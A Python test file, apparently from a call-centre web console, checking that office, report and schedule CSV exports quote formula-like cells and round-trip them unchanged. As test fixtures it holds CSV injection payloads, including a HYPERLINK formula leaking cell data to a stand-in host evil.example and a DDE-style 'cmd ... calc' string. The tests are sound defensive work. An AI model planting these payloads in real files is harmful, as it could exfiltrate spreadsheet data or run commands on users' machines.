"""No formula injection in any CSV export: offices, reports, schedules."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from app.main import build_app
from app.settings import DEMO_ADMIN_PASSWORD
from console_web.supervisor_api import report_csv
from console_web.supervisor_views import ReportOut
from core.csvsafe import FORMULA_TRIGGERS
from core.ids import SeatId, TeamId
from seats.schedule import Shift, parse_schedule_csv, write_schedule_csv
from stats.kpi import CallOutcome, CallSample, compute_kpis
from stats.reports import Period, Report, ReportRow
from tests.support.app import demo_test_settings

AT = datetime(2026, 11, 25, 2, 0, tzinfo=UTC)
ANSWERED = CallSample(offered_at=AT, outcome=CallOutcome.ANSWERED, wait_seconds=5.0, talk_seconds=60.0)
ABANDONED = CallSample(offered_at=AT, outcome=CallOutcome.ABANDONED, wait_seconds=30.0)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _no_formula(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(FORMULA_TRIGGERS), cell


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    settings = demo_test_settings(tmp_path, "csv.db")
    with TestClient(build_app(settings), base_url="http://127.0.0.1") as c:
        yield c


def test_given_an_office_named_like_a_formula_when_exported_then_quoted_and_reimported_unchanged(
    client: TestClient,
) -> None:
    r = client.post("/api/login", json={"username": "admin", "password": DEMO_ADMIN_PASSWORD})
    h = {"X-CSRF-Token": r.json()["csrf_token"]}
    office = client.get("/api/offices", params={"limit": 1}).json()["offices"][0]
    edit = {
        "name": EVIL,
        "address": "@SUM(1+1)*cmd|' /C calc'!A0",
        "phone": office["phone"],
        "opening_hours": "-2+3",
        "lat": office["lat"],
        "lon": office["lon"],
        "team_id": office["team_id"],
    }
    assert client.put(f"/api/offices/{office['id']}", json=edit, headers=h).status_code == 200
    exported = client.get("/api/offices/export.csv")
    assert exported.status_code == 200
    _no_formula(exported.text)
    cells = _cells(exported.text)
    assert "'" + EVIL in cells and "'-2+3" in cells
    # The quoted file goes back in as it came out: the values are what the admin typed.
    r = client.post("/api/offices/import", content=exported.content, headers=h)
    assert r.status_code == 200, r.text
    again = client.get(f"/api/offices/{office['id']}").json()
    assert (again["name"], again["address"], again["opening_hours"]) == (
        EVIL,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
    )


def test_given_report_rows_with_formula_text_when_exported_then_quoted() -> None:
    kpis = compute_kpis([ANSWERED] * 9 + [ABANDONED])
    report = Report(
        scope="全市",
        period=Period.DAY,
        first=date(2026, 11, 25),
        last=date(2026, 11, 25),
        rows=[ReportRow.of("=1+1", kpis)],
        total=ReportRow.of("@合计", kpis),
    )
    text = report_csv(ReportOut.of(report))
    _no_formula(text)
    assert "'=1+1" in _cells(text) and "'@合计" in _cells(text)
    assert "90.0" in _cells(text)  # numbers stay numbers


def test_given_a_schedule_with_a_formula_seat_when_exported_then_quoted_and_read_back() -> None:
    shifts = [
        Shift(
            team_id=TeamId("t"), seat_id=SeatId("=cmd"), day=date(2026, 12, 1), start=time(9), end=time(12)
        ),
        Shift(
            team_id=TeamId("t"), seat_id=SeatId("1001"), day=date(2026, 12, 1), start=time(13), end=time(17)
        ),
    ]
    text = write_schedule_csv(shifts)
    _no_formula(text)
    assert parse_schedule_csv(text, TeamId("t")) == shifts
